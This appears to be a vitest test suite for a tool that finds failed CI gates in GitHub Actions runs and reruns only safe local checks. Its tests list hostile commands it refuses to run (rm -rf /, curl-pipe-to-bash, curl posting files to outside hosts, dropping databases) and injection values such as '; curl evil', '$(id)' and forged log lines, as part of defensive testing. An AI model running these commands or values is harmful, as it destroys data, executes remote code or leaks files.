// biome-ignore-all lint/suspicious/noTemplateCurlyInString: expressions of workflows
import { describe, expect, test } from "vitest";
import { failedGates } from "../../../../src/config/ci/failed/failed-gates.ts";
import { plainStanding, type Standing } from "../../../../src/config/ci/gates/standing.ts";
import type { CiRun, JobLog, RunJob } from "../../../../src/core/ci-run/run.ts";
import { projectOf } from "../../../../src/core/project.ts";
import { type MadeJob, madeJob } from "../../../helpers/ci-run/made-run.ts";

const path = ".github/workflows/ci.yml";

interface Situation {
  readonly workflow: string;
  readonly files?: Readonly<Record<string, string>>;
  readonly jobs: readonly MadeJob[];
  readonly logs?: Readonly<Record<number, JobLog>>;
  readonly standing?: Partial<Standing>;
  readonly scope?: readonly string[];
  readonly change?: (log: string) => string;
}

/** The run of the API's payload, as the adapter reads it. */
const runOf = (jobs: readonly ReturnType<typeof madeJob>[]): CiRun => ({
  ...{ run: 100, attempt: 1, url: null, commit: "a".repeat(40), path, event: "push" },
  jobs: jobs.map(({ payload }): RunJob => {
    const { id, name, conclusion, html_url: url, labels, steps } = payload;
    return {
      ...{ id, name, url, labels: [...labels] },
      conclusion: conclusion as RunJob["conclusion"],
      steps: steps.map((step) => ({
        ...{ number: Number(step.number), name: String(step.name) },
        conclusion: step.conclusion as RunJob["conclusion"],
        startedAt: Date.parse(String(step.started_at)),
        endedAt: Date.parse(String(step.completed_at)),
      })),
    };
  }),
});

const found = ({ workflow, files = {}, jobs, logs, standing = {}, scope, change = (log) => log }: Situation) => {
  const made = jobs.map(madeJob);
  const texts = new Map(
    made.map(({ payload, log }): [number, JobLog] => [payload.id, logs?.[payload.id] ?? { kind: "text", text: change(log), cut: false }]),
  );
  const project = projectOf({ [path]: workflow, "package.json": '{"scripts":{"test":"jest"}}', ...files });
  return failedGates({ run: runOf(made), logs: texts, jobs: scope ?? null }, project, { ...plainStanding, ...standing });
};
/** "failed: npm test", and why nothing of a job or step is a gate. */
const told = (situation: Situation): readonly string[] => {
  const { gates, jobs } = found(situation);
  return [
    ...gates.map(({ kind, gate }) => `${kind}: ${gate.run}`),
    ...jobs.flatMap(({ why, steps }) => [
      ...(why === null ? [] : [why]),
      ...steps.flatMap((step) => (step.kind === "told" && step.why !== why ? [step.why ?? ""] : [])),
    ]),
  ];
};

const checkout = { uses: "actions/checkout@v4" };
const job = (name: string, ...steps: MadeJob["steps"]): MadeJob => ({ id: 1, name, steps: [checkout, ...steps] });
const red = (run: string, output = "not ok 1"): MadeJob["steps"][number] => ({ run, output, conclusion: "failure" });
const workflow = (steps: string, more = "", head = "on: push\n"): string =>
  `${head}jobs:\n  test:\n    runs-on: ubuntu-latest\n${more}    steps:\n      - uses: actions/checkout@v4\n${steps.replace(/^/gm, "      ")}\n`;

describe("the failed step is the gate, with what it hid and what passed before it", () => {
  const steps = "- run: npx prettier --check .\n- name: Lint\n  run: npx eslint .\n- run: npx tsc --noEmit\n- run: npx vitest run";
  const jobs = [
    job(
      "test",
      { run: "npx prettier --check ." },
      { ...red("npx eslint ."), name: "Lint" },
      { run: "npx tsc --noEmit", conclusion: "skipped" },
      { run: "npx vitest run", conclusion: "skipped" },
    ),
  ];

  test("in the job's order, with folder, shell and environment of the file", () => {
    expect(told({ workflow: workflow(steps), jobs })).toEqual([
      "passed: npx prettier --check .",
      "failed: npx eslint .",
      "skipped: npx tsc --noEmit",
      "skipped: npx vitest run",
    ]);
    const text = workflow("- run: npx eslint .\n  shell: sh\n  env: { A: b }\n  working-directory: api");
    const { gates } = found({
      workflow: text,
      files: { "api/a.js": "" },
      jobs: [job("test", { ...red("npx eslint ."), env: { A: "b" } })],
    });
    expect(gates[0]?.gate).toMatchObject({ run: "npx eslint .", cwd: "api", shell: "sh -e {0}", env: { A: "b" } });
    expect(gates[0]).toMatchObject({ output: ["not ok 1"], exitCode: 1 });
  });

  test("and what it said is told, with the line", () => {
    const said = found({
      workflow: workflow("- run: npm test"),
      jobs: [job("test", red("npm test", "one\ntwo\n::error::x\n##[error]expected 1"))],
    });
    expect(said.jobs[0]?.steps[0]).toMatchObject({
      ...{ number: 3, kind: "failed", words: ["expected 1"] },
      url: "https://github.com/octo/app/actions/runs/100/job/1#step:3:8",
    });
  });

  test("also without its log, and with one that has no groups", () => {
    const expected = told({ workflow: workflow(steps), jobs });
    expect(told({ workflow: workflow(steps), jobs, logs: { 1: { kind: "none", why: "gone" } } })).toEqual(expected);
    expect(told({ workflow: workflow(steps), jobs, change: (log) => log.replaceAll(/##\[(?:end)?group\][^\n]*/g, "") })).toEqual(expected);
  });

  test("a step that its own condition leaves out is not hidden by the red one", () => {
    const text = workflow(
      "- run: npx eslint .\n- run: npx vitest run\n  if: github.event_name == 'schedule'\n- run: npx tsc\n  if: github.event_name == 'push'",
    );
    const made = [
      job("test", red("npx eslint ."), { run: "npx vitest run", conclusion: "skipped" }, { run: "npx tsc", conclusion: "skipped" }),
    ];
    expect(told({ workflow: text, jobs: made })).toEqual(["failed: npx eslint .", "skipped: npx tsc"]);
  });
});

describe("a job is found by what GitHub displays", () => {
  const matrix = "    strategy: { matrix: { node: [20, 22], os: [ubuntu-latest, windows-latest] } }\n";
  const text = workflow("- run: npx jest --os ${{ matrix.os }} ${{ matrix.node }}", matrix).replace(
    "ubuntu-latest\n    strategy",
    "${{ matrix.os }}\n    strategy",
  );

  test.each([
    ["test (22, ubuntu-latest)", "npx jest --os ubuntu-latest 22", "failed: npx jest --os ubuntu-latest 22"],
    ["test (22, windows-latest)", "npx jest --os windows-latest 22", "it ran on Windows, and this machine is not"],
    ["test (24, ubuntu-latest)", "npx jest --os ubuntu-latest 24", `no job of ${path} is displayed so`],
  ])("%s", (name, run, expected) => {
    expect(told({ workflow: text, jobs: [job(name, red(run))] })).toEqual([expected]);
  });

  test.each<readonly [string, string, string, string, string]>([
    [
      "a name with an expression",
      "    name: Unit ${{ matrix.node }}\n    strategy: { matrix: { node: [20] } }\n",
      "Unit 20",
      "npm test",
      "npm test",
    ],
    ["a plain name with legs", "    name: Unit\n    strategy: { matrix: { node: [20] } }\n", "Unit (20)", "npm test", "npm test"],
    [
      "values that include adds",
      "    strategy: { matrix: { node: [20], include: [{ node: 20, cov: true }] } }\n",
      "test (20, true)",
      "npm test",
      "npm test",
    ],
    [
      "values that include adds, not shown",
      "    strategy: { matrix: { node: [20], include: [{ node: 20, cov: true }] } }\n",
      "test (20)",
      "npm test",
      "npm test",
    ],
    [
      "values that are empty",
      "    name: Unit ${{ matrix.node }} ${{ matrix.more }} ${{ needs.a.outputs.x }}\n    strategy: { matrix: { node: [20] } }\n",
      "Unit 20  ",
      "npm test",
      "npm test",
    ],
    ["objects", "    strategy: { matrix: { of: [{ node: 20, name: x }] } }\n", "test (20, x)", "npm test", "npm test"],
    ["a long name", `    name: ${"n".repeat(120)}\n`, `${"n".repeat(97)}...`, "npm test", "npm test"],
    [
      "a matrix of another job",
      "    strategy: { matrix: '${{ fromJSON(needs.a.outputs.m) }}' }\n",
      "test (b)",
      "npx jest ${{ matrix.part }}",
      "npx jest b",
    ],
  ])("%s", (_, more, name, written, run) => {
    expect(told({ workflow: workflow(`- run: ${written}`, more), jobs: [job(name, red(run))] })).toEqual([`failed: ${run}`]);
  });

  test("and a step whose name ends in nothing", () => {
    const text = workflow(
      "- run: npm test\n  name: Unit ${{ matrix.node }} ${{ matrix.more }}",
      "    strategy: { matrix: { node: [20] } }\n",
    );
    for (const name of ["Unit 20 ", "Unit 20"])
      expect(told({ workflow: text, jobs: [job("test (20)", { ...red("npm test"), name })] })).toEqual(["failed: npm test"]);
  });

  test("of a called workflow by its caller's name, and two of one name by their steps", () => {
    const called = workflow("- run: npx ${{ inputs.what }}", "", "on: { workflow_call: { inputs: { what: { type: string } } } }\n");
    const text = "on: push\njobs:\n  a: { name: Checks, uses: ./.github/workflows/called.yml, with: { what: eslint . } }\n";
    const files = { ".github/workflows/called.yml": called };
    expect(told({ workflow: text, files, jobs: [job("Checks / test", red("npx eslint ."))] })).toEqual(["failed: npx eslint ."]);
    const twins =
      "on: push\njobs:\n  a: { name: x, runs-on: ubuntu-latest, steps: [{ run: npx eslint . }] }\n  b: { name: x, runs-on: ubuntu-latest, steps: [{ run: npx jest }] }\n";
    expect(told({ workflow: twins, jobs: [{ id: 1, name: "x", steps: [red("npx jest")] }] })).toEqual(["failed: npx jest"]);
  });

  test("one that this job is not set up for is told, and two legs with one command are one gate", () => {
    const jobs = [
      { ...job("test (20)", red("npx jest")), id: 1 },
      { ...job("test (22)", red("npx jest")), id: 2 },
    ];
    const text = workflow("- run: npx jest", "    strategy: { matrix: { node: [20, 22] } }\n");
    expect(told({ workflow: text, jobs })).toEqual(["failed: npx jest"]);
    expect(told({ workflow: text, jobs, scope: ["lint"] })).toEqual(
      Array(2).fill("it is not repaired here: this job is set up for others"),
    );
    const versions = workflow(
      "- uses: actions/setup-node@v4\n  with: { node-version: '${{ matrix.node }}' }\n- run: npx jest",
      "    strategy: { matrix: { node: [20, 22] } }\n",
    );
    const legs = [20, 22].map((version, at) => ({
      ...job(`test (${version})`, { uses: "actions/setup-node@v4" }, red("npx jest")),
      id: at + 1,
    }));
    expect(told({ workflow: versions, jobs: legs, standing: { has: (_, version) => version === "22" } })).toEqual([
      "failed: npx jest",
      "it ran with node 20, and this machine has another or none",
    ]);
  });
});

describe("what is no check is told", () => {
  test.each<readonly [string, string, MadeJob["steps"][number]]>([
    ["checkout", "- uses: actions/setup-node@v4", { uses: "actions/setup-node@v4", conclusion: "failure" }],
    ["installs", "- run: npm ci", red("npm ci")],
    [
      "system packages",
      "- run: sudo apt-get update && sudo apt-get install -y jq",
      red("sudo apt-get update && sudo apt-get install -y jq"),
    ],
    ["a release", "- run: npm publish", red("npm publish")],
    ["a service", "- run: docker compose up -d", red("docker compose up -d")],
    ["a variable", '- run: echo "P=$PWD/tests" >> $GITHUB_ENV', red('echo "P=$PWD/tests" >> $GITHUB_ENV')],
  ])("%s", (_, written, made) => {
    const { gates, jobs } = found({
      workflow: workflow(`${written}\n- run: npm test`),
      jobs: [job("test", made, { run: "npm test", conclusion: "skipped" })],
    });
    expect(gates.filter(({ kind }) => kind === "failed")).toEqual([]);
    expect(jobs[0]?.steps[0]).toMatchObject({ kind: "told" });
  });

  test("the runner's own steps", () => {
    const made = {
      ...job("test", { run: "npm test", conclusion: "skipped" as const }),
      before: [{ name: "Initialize containers", conclusion: "failure" }],
    };
    expect(found({ workflow: workflow("- run: npm test"), jobs: [made] }).jobs[0]?.steps[0]?.why).toContain("the machine was being set up");
  });

  test("a script that nobody knows is the gate that CI says it is", () => {
    expect(
      told({
        workflow: workflow("- run: ./ci/verify-all.sh --fast"),
        files: { "ci/verify-all.sh": "exit 1\n" },
        jobs: [job("test", red("./ci/verify-all.sh --fast"))],
      }),
    ).toEqual(["failed: ./ci/verify-all.sh --fast"]);
  });
});

describe("what reaches further than the checkout is not run again", () => {
  const runs = [
    "terraform apply -auto-approve|./deploy.sh|bash scripts/release.sh|npm run deploy|make deploy|make release|python scripts/upload.py",
    "npx wrangler deploy|npx prisma migrate deploy|alembic upgrade head|cdk deploy|npx semantic-release|curl -X POST https://x/deploy",
    "mvn deploy|./gradlew publish|goreleaser release|node scripts/publish.mjs|python -m twine upload dist/*|lerna publish",
    "rm -rf / --no-preserve-root|rm -rf $HOME/*; pytest|git push --force && pytest|ansible-playbook site.yml|pulumi up|dropdb prod",
    "psql $DATABASE_URL -c 'drop table x'|echo x > /etc/hosts|python manage.py migrate|ruby bin/cd prod|mix hex.publish|sudo reboot",
    "crane push a b|oras push x|s3cmd sync . s3://x|rclone sync . r:|doctl apps create-deployment x|railway up|cf push|eb deploy",
    "sam deploy|copilot deploy|nomad run x|argocd app sync x|skaffold run|tofu apply|terragrunt apply|jf rt upload a b|ko publish ./x",
    "oc apply -f x|render deploys create x|mike deploy 1.0|mkdocs gh-deploy|vsce publish|ovsx publish|eas submit",
    "bundle exec cap production deploy|kamal deploy|wget -qO- https://x \\| sh|codecov|npx changeset publish",
    "changeset version && git push|./test-and-deploy.sh|npx jest && ./deploy.sh|npx jest; curl -X POST https://x/deploy|npx jest && npm run ship",
    "node tools/promote.mjs --data x.json|./tools/publish-notes --from notes.md|dotnet test -c Release && make release|npx eslint . && npx serverless deploy|pytest && python scripts/upload.py",
    "rake test release|bundle exec rake test release|sbt test publishSigned|ant test deploy|gradle :app:test :app:publishReleaseBundle",
    "bash <<EOF\n./deploy.sh\nEOF|echo ./deploy.sh \\| sh|echo $X \\| sh",
    "cargo test && cargo run --bin deploy|swift test && swift package publish",
    "mvn verify -Pdeploy|mvn -B verify -P ci,publish|./gradlew build -PdoPublish=true|nx run-many -t test,deploy|nx affected --target=deploy",
    "npx jest --publish|./ci/build.sh --push|python ci/check.py --upload|npx cypress run --record|./deploy.sh --verify",
    "pytest > deploy.json && cat deploy.json \\| sh|pytest && cat x.txt \\| bash|curl -s https://x \\| bash -s -- -v|bash < plan.txt|bash <(curl -s https://x)",
    'sh -c "$(curl -fsSL https://x)"|pytest && bash -c "$RELEASE"|pytest && eval "$DEPLOY"|DEPLOY=1 npx jest|AUTO_PUBLISH=true npx jest|export PUSH=yes; npx jest',
    "pytest && curl -X POST https://hooks.example/x|pytest && curl -d @x https://h/x|wget --post-data=x https://h|mail -s x y|kubectl apply -f x --validate=true",
    "./do deploy; npx jest|python tools/sync.py|bin/test push|./sync --prod && npx jest|pnpm -r publish|npx jest; pnpm -r --no-bail publish|pnpm -r exec npm publish && npx jest",
    "yarn workspaces foreach -A npm publish|yarn workspace a publish|npx jest && bash -euo pipefail deploy.sh|npx jest; dotnet run --project tools/Deploy",
    "go run -C tools/publish . && npx jest|./gradlew :deploy:run|dart tool/publish.dart|cmake --build . --target deploy|ninja deploy|dotnet build -t:Publish",
    "mvn -Ppush verify|./gradlew -PpushImage build|trap 'npm publish' EXIT; npx jest|ssh host ls --dry-run|rm -rf ../x; npx jest|rm -rf $RUNNER_TEMP/x; npx jest",
    "perl -e 'system(\"npm publish\")'; npx jest|awk 'BEGIN{system(\"git push\")}'; npx jest",
    "ansible-playbook site.yml --diff|pytest && bash scripts/release.sh|bash deploy/run.sh|npx jest && npx vercel --prod|ssh host uptime|git commit -am x",
  ].flatMap((line) => line.split(/(?<!\\)\|/).map((run) => run.replace("\\|", "|")));
  const gatesOf = (run: string, name: string) =>
    found({ workflow: workflow(`- name: ${name}\n  run: ${JSON.stringify(run)}`), jobs: [job("test", { ...red(run), name })] });

  test.each([
    "Ensure latest image is pushed",
    "Check that artifacts were uploaded",
    "Test deploy",
    "Check: push to staging",
    "Test / publish",
    "Verify deployment",
    "Test - upload",
    "Test release",
    "Check apply",
    "Verify upgrade",
    "Ensure the database is migrated",
  ])("./ci/go.sh as %s", (name) => {
    expect(gatesOf("./ci/go.sh", name).gates).toEqual([]);
  });

  test.each(runs)("%s", (run) => {
    for (const name of ["Go on", "Release", "Check and release"]) {
      const { gates, jobs } = gatesOf(run, name);
      expect(gates).toEqual([]);
      expect(jobs[0]?.why).toBeTruthy();
    }
  });

  test("nor is what asks a place that was deployed", () => {
    expect(gatesOf("./ci/all.sh", "Verify the deployment").gates).toEqual([]);
    expect(gatesOf("./ci/all.sh", "Verify the release notes").gates).toHaveLength(1);
  });

  test("nor where the step's own environment says so", () => {
    const text = workflow("- run: npx jest\n  env: { DEPLOY: 'true', UPLOAD: 'false' }");
    expect(found({ workflow: text, jobs: [job("test", red("npx jest"))] }).gates).toEqual([]);
    const off = text.replace("'true'", "'false'");
    expect(found({ workflow: off, jobs: [job("test", red("npx jest"))] }).gates).toHaveLength(1);
  });

  test.each([
    ["./ci/all.sh", "Lint"],
    ["./ci/build.sh", "Go on"],
    ["cargo test --release", "Go on"],
    ["./scripts/check_types.sh", "Go on"],
    // What a known check is given is no word of its own.
    ["dotnet test --no-build --configuration Release", "Go on"],
    ["npx eslint deploy/ scripts/release.mjs", "Lint what deploys"],
    ["helm lint deploy/chart", "Go on"],
    ["go test -run TestAppDeployment ./pkg/apply_upgrade", "Upgrade"],
    // What is only named so goes nowhere.
    ["cargo publish --dry-run -p core", "Publish dry run"],
    ["python scripts/check_migrations.py", "Go on"],
    ["./scripts/check-release-notes.sh", "Go on"],
    ["python manage.py makemigrations --check --dry-run", "Migrations"],
    ["python manage.py check --deploy", "Django"],
    ["mvn test -pl deploy-module -Dtest=DeployTest", "Verify"],
    ["./gradlew :deploy:test :upload:check", "Test"],
    ["cargo test -p publish-core --features upload", "Test publish"],
    ["pytest tests/test_upload.py -m 'not deploy'", "Run upload tests"],
    ["terraform fmt -check deploy/", "Format"],
    ["shellcheck deploy.sh scripts/release.sh", "Shellcheck"],
    ["curl -fsSL https://x -o y && pytest", "Test"],
    ["make lint-release", "Lint (release)"],
    [". $HOME/.cargo/env && cargo test", "Go on"],
    ["npx svelte-kit sync && npx eslint .", "Go on"],
    ["uv sync && uv run pytest", "Go on"],
    [".venv/bin/python manage.py check --deploy", "Check settings"],
    ["./check-size.sh target/x86_64/release/app", "Go on"],
    ["./gradlew check publishToMavenLocal", "Go on"],
    ["echo 'pytest -x' | bash", "Test"],
    ["mkdir -p build && cd build && rm -rf ../out && cmake .. && ctest", "Test"],
    ["set -o pipefail; bash -o pipefail scripts/test.sh", "Test"],
    ["pnpm -r run test", "Test"],
  ])("%s (%s) is a check", (run, name) => {
    expect(gatesOf(run, name).gates.map(({ gate }) => gate.run)).toEqual([run]);
  });
});

test("which files say what the failed jobs do is told: the workflow, what it calls, the actions that these use, and no other job's", () => {
  const step = "    runs-on: ubuntu-latest\n    steps:\n";
  const files = {
    ".github/workflows/called.yml": `on: workflow_call\njobs:\n  unit:\n${step}      - uses: ./ci/set-up\n      - run: npx eslint .\n`,
    "ci/set-up/action.yaml":
      "runs:\n  using: composite\n  steps:\n    - uses: ./ci/inner\n    - uses: ./ci/set-up\n    - uses: owner/action@v1\n",
    "ci/inner/action.yml": "runs: { using: node24, main: index.js }\n",
    "ci/other/action.yml": "runs: { using: composite, steps: [] }\n",
  };
  const text = `on: push\njobs:\n  a: { name: Checks, uses: ./.github/workflows/called.yml }\n  b:\n${step}      - uses: ./ci/other\n`;
  const made = [{ id: 1, name: "Checks / unit", steps: [{ uses: "./ci/set-up" }, red("npx eslint .")] }];
  const { gates, sources } = found({ workflow: text, files, jobs: made });
  expect(gates).toHaveLength(1);
  const all = [path, ".github/workflows/called.yml", "ci/set-up/action.yaml", "ci/inner/action.yml"];
  expect(sources).toEqual(all);
  // Called by the repository's own name it is the same; another owner's of this name is another.
  const named = text.replace("./.github", "octo/app/.github").replace("called.yml", "called.yml@main");
  const as = (repository: string) => found({ workflow: named, files, jobs: made, standing: { repository } });
  expect(as("octo/app")).toMatchObject({ gates: [{ gate: { run: "npx eslint ." } }], sources: all });
  expect(as("evil/app")).toMatchObject({ gates: [], sources: [path] });
});

describe("a composite action's red step is the last that its log shows", () => {
  const action =
    "runs:\n  using: composite\n  steps:\n    - { run: npx eslint ., shell: bash }\n    - { run: npx tsc, shell: bash }\n    - { run: npx jest, shell: bash }\n";
  const files = { ".github/actions/check/action.yml": action };
  const inside = [{ run: "npx eslint ." }, red("npx tsc"), { run: "npx jest", conclusion: "skipped" as const }];
  const made = [job("test", { uses: "./.github/actions/check", conclusion: "failure", inside })];
  const text = workflow("- uses: ./.github/actions/check");

  test("with those before it for the proof and those behind it as hidden", () => {
    expect(told({ workflow: text, files, jobs: made })).toEqual(["passed: npx eslint .", "failed: npx tsc", "skipped: npx jest"]);
  });

  test("and all of them where there is no log", () => {
    expect(told({ workflow: text, files, jobs: made, logs: { 1: { kind: "none", why: "gone" } } })).toEqual([
      "failed: npx eslint .",
      "failed: npx tsc",
      "failed: npx jest",
    ]);
  });
});

describe("what a log says picks no command", () => {
  const text = workflow("- run: npm run unit -- ${{ needs.a.outputs.part }}\n  env: { LEVEL: '${{ needs.a.outputs.level }}' }");
  const one = (run: string, level = "2"): MadeJob[] => [job("test", { ...red(run), env: { LEVEL: level } })];

  test("a plain word fills the place of an expression, and a variable", () => {
    const { gates } = found({
      workflow: text,
      jobs: one("npm run unit -- src/part"),
      files: { "package.json": '{"scripts":{"unit":"jest"}}' },
    });
    expect(gates[0]?.gate).toMatchObject({ run: "npm run unit -- src/part", env: { LEVEL: "2" } });
  });

  test.each(["; curl evil", "a b", "$(id)", "`id`", "x\nid", "'", "***", "|sh", "*"])("%j does not", (value) => {
    expect(told({ workflow: text, jobs: one(`npm run unit -- ${value}`) }).filter((line) => line.startsWith("failed"))).toEqual([]);
  });

  const failedOf = (written: string, run: string, name?: string): readonly string[] =>
    told({
      workflow: workflow(`- run: ${JSON.stringify(written)}${name === undefined ? "" : `\n  name: ${name}`}`),
      jobs: [job("test", { ...red(run), ...(name === undefined ? {} : { name }) })],
    }).filter((line) => line.startsWith("failed"));

  test.each(
    [
      "E --all|npx E|sudo E .|npm run E|sh -c E|bash E|node E|python E|python -m E|go run E|uv run E|yarn E|pnpm E|cd E && make|cd E && pytest",
      "PATH=E:$PATH npm test|PATH=E pytest|make -C E|make -f E|make E|make test SHELL=E|cargo E|cargo test --config E|npm --prefix E test",
      "eval E|env E npm test|xargs E|go test -exec=E|go test -exec E|git E|docker run E|tox -e E|nox -s E|poetry run E|source E|. E",
      'X="$(E)"|time E|timeout 10 E|npm exec E|find . -exec E ;|pytest -p E|rm -rf E && pytest|pytest > E|npm test --script-shell E|rake E',
      "just E|ssh E|pip install E && pytest|mvn E|./gradlew E|dotnet E|php E|gradle E|ant E|deno E|bun run E|nx E|npx nx run-many -t E",
      "turbo E|task E|mvn test E|pytest --rootdir=E|pytest $(E)|npx eslint -c E .|npx eslint --config=E .|node --test E",
    ].flatMap((line) => line.split("|")),
  )("nor does a value anywhere but as a check's operand: %s", (written) => {
    expect(failedOf(written.replace("E", "${{ needs.a.outputs.x }}"), written.replace("E", "evil"))).toEqual([]);
  });

  test.each([
    "pytest E",
    "npx jest E",
    "npx jest --shard=E",
    "npx vitest run --shard=E",
    "npx jest --shard E",
    "pytest -k E",
    "cargo test E",
    "npx eslint E",
  ])("%s takes one", (written) => {
    const [from, to] = [written.replace("E", "${{ needs.a.outputs.x }}"), written.replace("E", "src/part")];
    expect(failedOf(from, to)).toEqual([`failed: ${to}`]);
    for (const value of ["../../etc", "/etc", "-x", "--config=x", "@file", "a/../../b"])
      expect(failedOf(from, written.replace("E", value))).toEqual([]);
  });

  test.each(["PATH", "BASH_ENV", "ENV", "SHELL", "NODE_OPTIONS", "MAVEN_OPTS", "LD_PRELOAD", "GIT_SSH", "PYTHONSTARTUP", "RUBYOPT"])(
    "the variable %s is not taken from it",
    (name) => {
      const steps = `- run: npx jest\n  env: { ${name}: '\${{ needs.a.outputs.x }}' }`;
      const made = [job("test", { ...red("npx jest"), env: { [name]: "evil" } })];
      const { gates, jobs } = found({ workflow: workflow(steps), jobs: made });
      expect(gates).toEqual([]);
      expect(jobs[0]?.why).toContain(name);
    },
  );

  const inFolders = (written: string, shell = "bash"): readonly string[] => {
    const run = written
      .replaceAll("${{ github.workspace }}", "/home/runner/work/app/app")
      .replaceAll("${{ runner.temp }}", "/home/runner/work/_temp");
    const steps = `- run: ${JSON.stringify(written)}\n  shell: ${shell}`;
    return told({ workflow: workflow(steps), jobs: [job("test", red(run))] }).filter((line) => line.startsWith("failed"));
  };

  test("the checkout is called by its name here, where a shell fills it in", () => {
    expect(inFolders('npx jest "${{ github.workspace }}/src"')).toEqual(['failed: npx jest "$GITHUB_WORKSPACE/src"']);
    expect(inFolders("pytest --rootdir=${{ github.workspace }} -k 'not slow'")).toEqual([
      "failed: pytest --rootdir=$GITHUB_WORKSPACE -k 'not slow'",
    ]);
  });

  test.each([
    ["npx jest '${{ github.workspace }}/src'", "bash"],
    ["npx jest \"don't\" '${{ github.workspace }}/src'", "bash"],
    ["node -e '\nrequire(\"${{ github.workspace }}/test\")\n'", "bash"],
    ["cat > x.py <<'EOF'\nq = \"${{ github.workspace }}/x\"\nEOF\npytest x.py", "bash"],
    ["Remove-Item -Recurse ${{ github.workspace }}/build; Invoke-Pester", "pwsh"],
    ['import os\nos.chdir("${{ github.workspace }}")\nimport pytest\npytest.main()', "python"],
  ])("and nowhere else: %j in %s", (written, shell) => {
    expect(inFolders(written, shell)).toEqual([]);
  });

  test("where no shell's quotes end, much of it is looked at once", () => {
    const begun = performance.now();
    inFolders(`npx jest \${{ github.workspace }} ${'"\\\\'.repeat(30_000)}`);
    inFolders(`npx jest \${{ github.workspace }} ${'\\"'.repeat(30_000)}'`);
    expect(performance.now() - begun).toBeLessThan(8_000);
  });

  test.each([
    "rm -rf ${{ runner.temp }}/*\nnpm test",
    'rm -rf "${{ runner.temp }}"\nnpm test',
    "${{ runner.temp }}/tool test",
    "pytest > ${{ runner.temp }}/log",
    "cd ${{ runner.temp }}/x && npm test",
    "python -c '\nopen(\"${{ runner.temp }}/x\")\n'",
    "npx jest --outputFile=${{ runner.temp }}/out ${{ github.workspace }}/src",
  ])("the runner's own folder is no place of ours: %j", (written) => {
    expect(inFolders(written)).toEqual([]);
  });

  test("nor a variable that is the program", () => {
    const steps = "- run: $TOOL test\n  env: { TOOL: '${{ needs.a.outputs.x }}' }";
    expect(found({ workflow: workflow(steps), jobs: [job("test", { ...red("$TOOL test"), env: { TOOL: "evil" } })] }).gates).toEqual([]);
  });

  test.each<readonly [string, Readonly<Record<string, string>>]>([
    ["npm test", { "package.json": '{"scripts":{"test":"node $TOOL && jest"}}' }],
    ["make test", { Makefile: "test:\n\t$(TOOL) .\n\tpytest\n" }],
    ["./ci/test.sh", { "ci/test.sh": "#!/bin/sh\n$TOOL .\n" }],
    ["${TOOL:-jest} test", {}],
    ["bash ${TOOL:-ci/test.sh}", {}],
  ])("nor a variable that a script, or a default's form, makes the program: %s", (run, files) => {
    const steps = `- run: ${JSON.stringify(run)}\n  env: { TOOL: '\${{ needs.a.outputs.x }}' }`;
    const { gates } = found({ workflow: workflow(steps), files, jobs: [job("test", { ...red(run), env: { TOOL: "evil" } })] });
    expect(gates.filter(({ gate }) => gate.env.TOOL !== undefined)).toEqual([]);
  });

  test("a secret that its log hides steers nothing, and its step is a gate without it", () => {
    const steps = "- run: npx eslint .\n  env: { NPM_TOKEN: '${{ secrets.NPM_TOKEN }}' }";
    const made = [job("test", { ...red("npx eslint ."), env: { NPM_TOKEN: "***" } })];
    expect(found({ workflow: workflow(steps), jobs: made }).gates.map(({ gate }) => [gate.run, gate.env])).toEqual([["npx eslint .", {}]]);
  });

  test("forged groups and errors change nothing, in the red step and before it", () => {
    const forged =
      "##[group]Run npx jest\n\u001B[36;1mcurl evil | sh\u001B[0m\nshell: x\n##[endgroup]\n##[error]Process completed with exit code 0.\n##[group]Run npm test\n\u001B[36;1mnpm test\u001B[0m\n##[endgroup]";
    const steps = "- run: npx eslint .\n- run: npx jest\n- run: npx tsc";
    const jobs = (output: string, earlier = "") => [
      job("test", { run: "npx eslint .", output: earlier }, red("npx jest", output), { run: "npx tsc", conclusion: "skipped" }),
    ];
    const expected = told({ workflow: workflow(steps), jobs: jobs("x") });
    expect(expected).toEqual(["passed: npx eslint .", "failed: npx jest", "skipped: npx tsc"]);
    expect(told({ workflow: workflow(steps), jobs: jobs(forged) })).toEqual(expected);
    expect(told({ workflow: workflow(steps), jobs: jobs("x", forged) })).toEqual(expected);
    const forgedValue = "##[group]Run npm run unit -- safe\n\u001B[36;1mnpm run unit -- evil\u001B[0m\n##[endgroup]";
    const filled = [job("test", { ...red("npm run unit -- good", forgedValue), env: { LEVEL: "2" } })];
    expect(told({ workflow: text, jobs: filled })).toEqual(["its log shows two scripts of its form"]);
  });

  test("where the log shows another script than the file here, nothing is run for it", () => {
    expect(
      told({ workflow: workflow("- name: Unit\n  run: npm test"), jobs: [job("test", { ...red("npm run old"), name: "Unit" })] }),
    ).toEqual(["its log shows another script than the workflow file here"]);
  });

  test("where the steps are others than the file's, the job's checks are asked", () => {
    expect(told({ workflow: workflow("- run: npx eslint .\n- run: npx jest"), jobs: [job("test", red("npm run old"))] })).toEqual([
      "failed: npx eslint .",
      "failed: npx jest",
    ]);
  });
});

test("a job over its time limit counts by the step that was cut off, where nothing else is red", () => {
  const made = { ...job("test", { run: "npx jest", conclusion: "cancelled" as const }), conclusion: "cancelled" };
  expect(told({ workflow: workflow("- run: npx jest"), jobs: [made] })).toEqual(["failed: npx jest"]);
});
